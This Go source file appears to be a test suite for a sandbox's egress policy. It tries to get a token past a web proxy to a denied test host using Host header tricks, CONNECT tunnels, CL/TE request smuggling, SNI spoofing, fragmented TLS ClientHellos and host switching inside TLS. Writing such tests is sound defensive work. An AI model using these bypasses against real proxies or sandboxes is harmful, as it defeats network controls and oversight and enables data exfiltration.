package escapes

import (
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const (
	portHTTP, portHTTPS, portDNSOverTLS = 80, 443, 853
)

// tcpWebAttempts connect to the ports for which an ordinary policy has a proxy,
// and say something there.
func tcpWebAttempts() []Attempt {
	list := []Attempt{
		{Name: "tcp/web-raw-80", Does: "write what is no HTTP to port 80", Try: say(portHTTP, (*Ground).raw)},
		{Name: "tcp/web-raw-443", Does: "write what is no TLS to port 443", Try: say(portHTTPS, (*Ground).raw)},
		{Name: "tcp/web-raw-853", Does: "write what is no TLS to the port of DNS over TLS", Try: say(portDNSOverTLS, (*Ground).raw)},
		{Name: "tcp/web-silent", Does: "connect to port 443 and wait for the other side to speak", Try: say(portHTTPS, nothing)},
		{Name: "tcp/web-banner", Does: "speak as a mail client does on port 80", Try: say(portHTTP, func(g *Ground) []byte {
			return []byte("EHLO " + g.Token + "\r\n")
		})},
		{Name: "tcp/web-host-denied", Does: "ask for a host that no rule allows", Try: say(portHTTP, request("GET", "/open/%s", "denied.test", ""))},
		{Name: "tcp/web-host-allowed", Does: "ask another address for the host that a rule allows", Try: say(portHTTP, func(g *Ground) []byte {
			return request("GET", "/open/x", g.AllowedName, "X-Text: %s\r\n")(g)
		})},
		{Name: "tcp/web-host-address", Does: "ask for an address instead of a host", Try: say(portHTTP, func(g *Ground) []byte {
			return request("GET", "/open/%s", g.Denied.V4.String(), "")(g)
		})},
		{Name: "tcp/web-host-port", Does: "ask for the allowed host on another port", Try: say(portHTTP, func(g *Ground) []byte {
			return request("GET", "/open/%s", fmt.Sprintf("%s:%d", g.AllowedName, g.Denied.Port), "")(g)
		})},
		{Name: "tcp/web-host-user", Does: "ask for a host that names the allowed one as a user", Try: say(portHTTP, func(g *Ground) []byte {
			return request("GET", "/open/%s", g.AllowedName+"@"+g.Denied.V4.String(), "")(g)
		})},
		{Name: "tcp/web-host-twice", Does: "name two hosts in one request", Try: say(portHTTP, func(g *Ground) []byte {
			return request("GET", "/open/%s", g.AllowedName, "Host: denied.test\r\n")(g)
		})},
		{Name: "tcp/web-absolute", Does: "ask by a whole address while naming the allowed host", Try: say(portHTTP, func(g *Ground) []byte {
			return request("GET", fmt.Sprintf("http://%v/open/%%s", g.Denied.AddrPort4()), g.AllowedName, "")(g)
		})},
		{Name: "tcp/web-connect", Does: "ask whoever is there for a tunnel", Try: say(portHTTP, func(g *Ground) []byte {
			return request("CONNECT", g.Denied.AddrPort4().String(), g.Denied.AddrPort4().String(), "X-Text: %s\r\n")(g)
		})},
		{Name: "tcp/web-connect-allowed", Does: "ask for a tunnel to the allowed host, and write through it", Try: say(portHTTP, func(g *Ground) []byte {
			head := fmt.Sprintf("CONNECT %s:443 HTTP/1.1\r\nHost: %[1]s:443\r\n\r\n", g.AllowedName)
			return append([]byte(head), g.Token...)
		})},
		{Name: "tcp/web-pipelined", Does: "send two requests at once, the second for another host", Try: say(portHTTP, func(g *Ground) []byte {
			return append(request("GET", "/open/x", g.AllowedName, "")(g), request("GET", "/%s", "denied.test", "")(g)...)
		})},
		{Name: "tcp/web-smuggled", Does: "hide a request in the body of another", Try: say(portHTTP, func(g *Ground) []byte {
			hidden := string(request("POST", "/%s", "denied.test", "")(g))
			lengths := fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(hidden)+5)
			return []byte(string(request("GET", "/open/x", g.AllowedName, lengths)(g)) + "0\r\n\r\n" + hidden)
		})},
		{Name: "tcp/web-upgrade", Does: "ask for another protocol, and speak it", Try: say(portHTTP, func(g *Ground) []byte {
			upgrade := request("GET", "/open/x", g.AllowedName, "Connection: Upgrade\r\nUpgrade: websocket\r\n"+
				"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")(g)
			return append(upgrade, g.Token...)
		})},
		{Name: "tcp/web-http2", Does: "speak HTTP/2 without TLS", Try: say(portHTTP, func(g *Ground) []byte {
			return []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00" + g.Token)
		})},
		{Name: "tcp/web-http-on-443", Does: "speak HTTP without TLS on port 443", Try: say(portHTTPS, request("GET", "/%s", "denied.test", ""))},
		{Name: "tcp/web-name-denied", Does: "greet by TLS under a name that no rule allows", Try: say(portHTTPS, func(g *Ground) []byte {
			return hello(g.Token+".denied.test", "")
		})},
		{Name: "tcp/web-name-allowed", Does: "greet another address under the name that a rule allows", Try: say(portHTTPS, func(g *Ground) []byte {
			return hello(g.AllowedName, g.Token)
		})},
		{Name: "tcp/web-nameless", Does: "greet by TLS without a name", Try: say(portHTTPS, func(g *Ground) []byte { return hello("", g.Token) })},
		{Name: "tcp/web-name-in-parts", Does: "greet by TLS in many small records", Try: say(portHTTPS, func(g *Ground) []byte {
			return inRecords(hello(g.Token+".denied.test", ""), 7)
		})},
		{Name: "tcp/web-tls-on-80", Does: "greet by TLS on port 80", Try: say(portHTTP, func(g *Ground) []byte {
			return hello(g.Token+".denied.test", "")
		})},
		{Name: "tcp/web-tls-on-853", Does: "greet the port of DNS over TLS under the name that a rule allows", Try: say(portDNSOverTLS, func(g *Ground) []byte {
			return hello(g.AllowedName, g.Token)
		})},
		{Name: "tcp/web-inner-host", Does: "ask for another host within TLS than the name says", Try: askWithin},
		{Name: "tcp/web-ipv6", Does: "ask by IPv6 for a host that no rule allows", Needs: []Need{NeedIPv6}, Try: func(g *Ground) error {
			return sayTo(netip.AddrPortFrom(g.Denied.V6, portHTTP), request("GET", "/%s", "denied.test", "")(g))
		}},
	}
	for i := range list {
		list[i].Needs = append(list[i].Needs, NeedWeb)
	}
	return list
}

func nothing(*Ground) []byte { return nil }

func (g *Ground) raw() []byte { return []byte("\x00\x01\x02 " + g.Token + "\n") }

// request writes an HTTP request, with the token where target or headers have
// a "%s".
func request(method, target, host, headers string) func(*Ground) []byte {
	return func(g *Ground) []byte {
		text := method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + headers + "\r\n"
		return []byte(strings.ReplaceAll(text, "%s", g.Token))
	}
}

// say connects to a port of the denied peer and writes.
func say(port uint16, what func(*Ground) []byte) func(*Ground) error {
	return func(g *Ground) error { return sayTo(netip.AddrPortFrom(g.Denied.V4, port), what(g)) }
}

func sayTo(to netip.AddrPort, what []byte) error {
	s, err := streamTo(to)
	if err != nil {
		return err
	}
	if err := s.connect(sockaddr(to)); err != nil {
		return err
	}
	if err := s.write(what); err != nil {
		return err
	}
	// Whoever is in between gets the time to pass it on.
	_ = s.readable(attemptTime / 4)
	return nil
}

// hello returns a TLS ClientHello, with a text as the protocol that it asks
// for.
func hello(name, text string) []byte {
	ours, theirs := net.Pipe()
	config := &tls.Config{ServerName: name, InsecureSkipVerify: true}
	if text != "" {
		config.NextProtos = []string{text}
	}
	go func() {
		_ = tls.Client(theirs, config).Handshake() // nobody answers
		theirs.Close()
	}()
	defer ours.Close()
	b := make([]byte, 16<<10)
	n, _ := io.ReadAtLeast(ours, b, 5)
	return b[:n]
}

// inRecords cuts the content of a TLS record into records of some size.
func inRecords(b []byte, size int) []byte {
	const head = 5
	var out []byte
	for rest := b[head:]; len(rest) > 0; rest = rest[min(size, len(rest)):] {
		n := min(size, len(rest))
		out = append(append(out, b[0], b[1], b[2], 0, byte(n)), rest[:n]...)
	}
	return out
}

// askWithin greets under the allowed name and asks for another host once the
// connection is encrypted.
func askWithin(g *Ground) error {
	to := netip.AddrPortFrom(g.Denied.V4, portHTTPS)
	s, err := streamTo(to)
	if err != nil {
		return err
	}
	if err := s.connect(sockaddr(to)); err != nil {
		return err
	}
	conn, err := s.conn()
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(attemptTime / 2)); err != nil {
		return err
	}
	secure := tls.Client(conn, &tls.Config{ServerName: g.AllowedName, InsecureSkipVerify: true})
	if _, err := secure.Write(request("GET", "/open/%s", "denied.test", "")(g)); err != nil {
		return fmt.Errorf("speak TLS: %w", err)
	}
	_, err = secure.Read(make([]byte, 1))
	return err
}

// conn is the socket for packages that want more than a descriptor.
func (s *sock) conn() (net.Conn, error) {
	if err := unix.SetNonblock(int(s.fd), true); err != nil {
		return nil, err
	}
	file := os.NewFile(s.fd, "socket")
	conn, err := net.FileConn(file)
	return conn, errors.Join(err, file.Close())
}
